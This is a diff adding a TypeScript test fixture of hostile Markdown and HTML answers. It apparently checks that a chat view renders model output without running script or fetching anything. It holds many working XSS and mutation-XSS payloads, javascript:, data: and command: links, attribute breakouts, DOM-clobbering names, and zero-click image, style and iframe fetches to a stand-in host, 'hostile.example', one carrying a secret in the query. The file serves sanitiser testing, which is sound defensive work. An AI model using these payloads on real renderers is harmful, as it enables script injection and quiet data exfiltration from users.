@@ -1,0 +1,119 @@
+/** An answer that tries to run code or to fetch something when it is shown. */
+export interface HostileAnswer {
+  /** What it tries. */
+  name: string;
+  markdown: string;
+}
+
+/** Runs when a vector succeeds: the test defines a function of this name in the page. */
+export const hostileFunction = 'hostile';
+
+/** Nothing may be fetched from here: the test watches the page's requests. */
+export const hostileOrigin = 'https://hostile.example';
+
+const call = `${hostileFunction}()`;
+const evil = hostileOrigin;
+
+function group(about: string, markdowns: readonly string[]): HostileAnswer[] {
+  return markdowns.map((markdown, index) => ({ name: `${about} ${index + 1}`, markdown }));
+}
+
+export const hostileAnswers: readonly HostileAnswer[] = [
+  ...group('script element', [
+    `<script>${call}</script>`,
+    `Text before <script>${call}</script> and after`,
+    `<SCRIPT SRC=${evil}/a.js></SCRIPT>`,
+    `<scr<script>ipt>${call}</scr</script>ipt>`,
+    `<script\n>\n${call}\n</script\n>`,
+    `<svg><script>${call}</script></svg>`,
+    `<math><mtext><script>${call}</script></mtext></math>`,
+    `- item <script>${call}</script>\n- <script>${call}</script>`,
+    `| a |\n|---|\n| <script>${call}</script> |`,
+  ]),
+  ...group('event handler', [
+    `<img src=x onerror=${call}>`,
+    `<img src=x onerror="${call}" />`,
+    `<svg onload=${call}>`,
+    `<body onload=${call}>`,
+    `<details open ontoggle=${call}>`,
+    `<video><source onerror=${call}></video>`,
+    `<input autofocus onfocus=${call}>`,
+    `<marquee onstart=${call}>`,
+    `<a href="#" onmouseover=${call}>over</a>`,
+    `<div style="animation-name:x" onanimationstart=${call}>`,
+    `<br onclick=${call}>`,
+    `<br/onpointerenter=${call}>`,
+  ]),
+  ...group('address that runs code', [
+    `[link](javascript:${call})`,
+    `[link](JaVaScRiPt:${call})`,
+    `[link](<javascript:${call}>)`,
+    `[link](<java\tscript:${call}>)`,
+    `[link](&#106;avascript:${call})`,
+    `[link](&#x6A;&#x61;vascript&colon;${call})`,
+    `[link](java&NewLine;script:${call})`,
+    `[link](\u0001javascript:${call})`,
+    `[link]( javascript:${call})`,
+    `[link](vbscript:${call})`,
+    `[link](data:text/html,<script>${call}</script>)`,
+    `[link](data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=)`,
+    `[link](blob:${evil}/1)`,
+    `[link](file:///etc/passwd)`,
+    `[link](command:workbench.action.terminal.new)`,
+    `[link](vscode://publisher.extension/run)`,
+    `[link][ref]\n\n[ref]: javascript:${call}`,
+    `<javascript:${call}>`,
+    `[![image](javascript:${call})](javascript:${call})`,
+    `[link](javascript:${call} "title")`,
+  ]),
+  ...group('way out of an attribute', [
+    `[link](https://example.com/"onclick="${call})`,
+    `[link](https://example.com/ 'x" onclick="${call}')`,
+    `[link](<https://example.com/" onmouseover="${call}>)`,
+    `![alt" onerror="${call}](https://hostile.example/p.png)`,
+    `![alt](https://hostile.example/p.png"onerror="${call})`,
+    `![<img src=x onerror=${call}>](https://hostile.example/p.png)`,
+    `https://example.com/"onclick="${call}`,
+    `\`\`\`js"onclick="${call}\ncode\n\`\`\``,
+    `\`\`\`"><script>${call}</script>\ncode\n\`\`\``,
+    `~~~ts class=x onload=${call}\ncode\n~~~`,
+  ]),
+  ...group('way out of code', [
+    `\`</code><script>${call}</script>\``,
+    `\`\`\`html\n</code></pre><script>${call}</script>\n\`\`\``,
+    `\`\`\`xml\n<![CDATA[ ]]><svg onload=${call}>\n\`\`\``,
+    `    </code></pre><img src=x onerror=${call}>`,
+    `\`\`\`diff\n-<img src=x onerror=${call}>\n+</span><script>${call}</script>\n\`\`\``,
+    `\`\`\`html\n<img src=x onerror=${call}`,
+  ]),
+  ...group('fetch without a click', [
+    `![pixel](${evil}/pixel.png?secret=1)`,
+    `![pixel][ref]\n\n[ref]: ${evil}/pixel.png`,
+    `<img src="${evil}/pixel.png">`,
+    `<link rel=stylesheet href="${evil}/a.css">`,
+    `<style>@import "${evil}/a.css"; * { background: url(${evil}/b.png) }</style>`,
+    `<div style="background-image:url(${evil}/b.png)">`,
+    `<iframe src="${evil}/frame"></iframe>`,
+    `<object data="${evil}/object"></object><embed src="${evil}/embed">`,
+    `<meta http-equiv=refresh content="0;url=${evil}/away">`,
+    `<base href="${evil}/"><form action="${evil}/post"><button>send</button></form>`,
+    `<video poster="${evil}/poster.png"></video><audio src="${evil}/sound"></audio>`,
+    `![data](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>)`,
+  ]),
+  ...group('markup that changes when it is parsed again', [
+    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${call}>">`,
+    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+    `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
+    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
+    `<template><script>${call}</script></template>`,
+    `<!--><img src=x onerror=${call}>-->`,
+    `<![CDATA[<img src=x onerror=${call}>]]>`,
+    `<?xml version="1.0"?><x onload=${call}>`,
+  ]),
+  ...group('name that shadows the page', [
+    `<a id=chat name=strings>x</a>`,
+    `<form id=chat><input name=acquireVsCodeApi></form>`,
+    `[__proto__]: https://example.com\n\n[__proto__] [constructor]`,
+    `[constructor]: javascript:${call}\n\n[constructor]`,
+  ]),
+];
